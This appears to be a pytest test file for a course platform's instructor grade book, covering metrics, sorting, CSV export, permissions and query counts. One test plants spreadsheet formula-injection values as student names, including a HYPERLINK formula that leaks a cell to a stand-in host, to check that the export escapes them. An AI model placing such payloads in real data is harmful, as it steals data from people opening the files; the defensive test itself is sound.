"""The instructor dashboard, an assignment's Grades page: grade book with metrics, sorting, the distribution chart,
failed runs with reasons, the CSV export; its query count does not grow with students."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from courses.models import Submission
from notebooks.models import Run
from tests.courses import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def setup(catalogue, make_user):
    course = factories.course(make_user)
    assignment = factories.assignment(course)
    students = [factories.student_in(course, make_user) for _ in range(3)]
    for index, student in enumerate(students):
        factories.finished(assignment, student, metrics={"accuracy": 0.5 + index / 10, "ok": True})
    factories.finished(assignment, students[0], status=Run.Status.FAILED, error="ValueError: the data is wrong", error_cell=4)
    return course, assignment, students


def test_dashboard_shows_metrics_per_student_the_chart_and_failed_runs(setup, client):
    course, assignment, students = setup
    client.force_login(factories.instructor_of(course))

    page = client.get(f"/courses/assignments/{assignment.pk}/grades/?sort=m:accuracy&dir=desc").content.decode()

    assert "data-histogram" in page and "accuracy" in page
    assert "ValueError: the data is wrong" in page
    order = [page.index(str(student)) for student in reversed(students)]
    gradebook = page[page.index("data-gradebook") :]
    order = [gradebook.index(str(student)) for student in reversed(students)]
    assert order == sorted(order), "sorted by accuracy, highest first"
    assert "style=" not in page and "<script>" not in page


def test_grade_book_csv_has_one_row_per_student_with_metrics(setup, client):
    course, assignment, students = setup
    client.force_login(factories.instructor_of(course))

    response = client.get(f"/courses/assignments/{assignment.pk}/grades.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert response["Content-Type"].startswith("text/csv")
    assert {row["username"] for row in rows} == {student.username for student in students}
    accuracy = {row["username"]: row["accuracy"] for row in rows}
    assert accuracy[students[2].username] == "0.7"


def test_a_student_cannot_export_the_grade_book(setup, client):
    _course, assignment, students = setup
    client.force_login(students[0])
    assert client.get(f"/courses/assignments/{assignment.pk}/grades.csv").status_code == 404


def test_dashboard_query_count_does_not_grow_with_students(catalogue, make_user, client):
    counts = []
    for size in (2, 8):
        course = factories.course(make_user)
        assignment = factories.assignment(course)
        for _ in range(size):
            factories.finished(assignment, factories.student_in(course, make_user), metrics={"accuracy": 0.5})
        client.force_login(factories.instructor_of(course))
        with CaptureQueriesContext(connection) as queries:
            assert client.get(f"/courses/assignments/{assignment.pk}/grades/").status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1], counts


def test_course_list_query_count_does_not_grow_with_courses(catalogue, make_user, client):
    instructor = make_user("instructor")
    place = factories.institution()
    counts = []
    for size in (1, 5):
        for _ in range(size):
            factories.course(make_user, at=place, instructor=instructor)
        client.force_login(instructor)
        with CaptureQueriesContext(connection) as queries:
            client.get("/courses/")
        counts.append(len(queries))
    assert counts[0] == counts[1], counts


def test_grade_book_csv_shows_hostile_names_as_text_not_formulas(setup, client):
    # given students whose display name and username a spreadsheet would run as formulas
    course, assignment, students = setup
    students[0].display_name = '=HYPERLINK("http://evil.example/?"&A1,"grades")'
    students[0].save(update_fields=["display_name"])
    students[1].username = "+1+cmd"
    students[1].save(update_fields=["username"])
    client.force_login(factories.instructor_of(course))

    # when the instructor exports the grade book
    text = client.get(f"/courses/assignments/{assignment.pk}/grades.csv").content.decode("utf-8-sig")
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(text))}

    # then each hostile cell arrives whole, prefixed with an apostrophe, and the metrics are untouched
    assert rows[students[0].email]["name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"grades")'
    assert rows[students[1].email]["username"] == "'+1+cmd"
    assert rows[students[1].email]["accuracy"] == "0.6"
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_grade_book_labels_and_formats_metrics_as_the_notebook_declares(setup, client):
    from bs4 import BeautifulSoup

    from notebooks.models import NotebookVersion

    course, assignment, _students = setup
    declared = {"accuracy": {"label": {"en": "Test accuracy", "zh-hans": "测试准确率"}, "unit": "%", "digits": 2}}
    NotebookVersion.objects.filter(pk=assignment.version_id).update(metadata={**assignment.version.metadata, "metrics": declared})
    client.force_login(factories.instructor_of(course))

    english = BeautifulSoup(
        client.get(f"/courses/assignments/{assignment.pk}/grades/?sort=m:accuracy", HTTP_ACCEPT_LANGUAGE="en").content,
        "html.parser",
    )
    chinese = client.get(f"/courses/assignments/{assignment.pk}/grades/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()

    header = english.select_one("[data-sort-metric=accuracy]")
    assert header.text == "Test accuracy" and header.parent.find("small").text == "(%)"
    values = {td.text for td in english.select("[data-gradebook] tbody td.num")}
    assert {"0.50", "0.60", "0.70"} <= values, values  # two digits, as declared (0.5 would be the raw value)
    assert "测试准确率" in chinese


def test_grade_book_row_sums_up_a_students_runs_newest_first(catalogue, make_user, client):
    course = factories.course(make_user)
    assignment = factories.assignment(course)
    tried, idle, failing = (factories.student_in(course, make_user) for _ in range(3))
    factories.finished(assignment, tried, metrics={"accuracy": 0.5})
    counted = factories.finished(assignment, tried, metrics={"accuracy": 0.6})
    Submission.objects.filter(pk=counted.pk).update(late=True)
    latest = factories.finished(assignment, tried, status=Run.Status.FAILED, metrics={"accuracy": 0.9})
    factories.finished(assignment, failing, status=Run.Status.FAILED)
    client.force_login(factories.instructor_of(course))

    response = client.get(f"/courses/assignments/{assignment.pk}/grades.csv")
    rows = {row["username"]: row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}

    shown = ("runs", "latest_status", "late", "best_run", "accuracy")
    assert [rows[tried.username][key] for key in shown] == ["3", "failed", "yes", str(counted.run_id), "0.6"]
    assert [rows[idle.username][key] for key in shown] == ["0", "", "no", "", ""]
    assert [rows[failing.username][key] for key in shown] == ["1", "failed", "no", "", ""]
    page = client.get(f"/courses/assignments/{assignment.pk}/grades/?sort=runs&dir=desc").content.decode()
    gradebook = page[page.index("data-gradebook") :]
    assert gradebook.index(str(tried)) < gradebook.index(str(failing)) < gradebook.index(str(idle)), "by runs, most first"
    assert f"/runs/{latest.run_id}/" in page
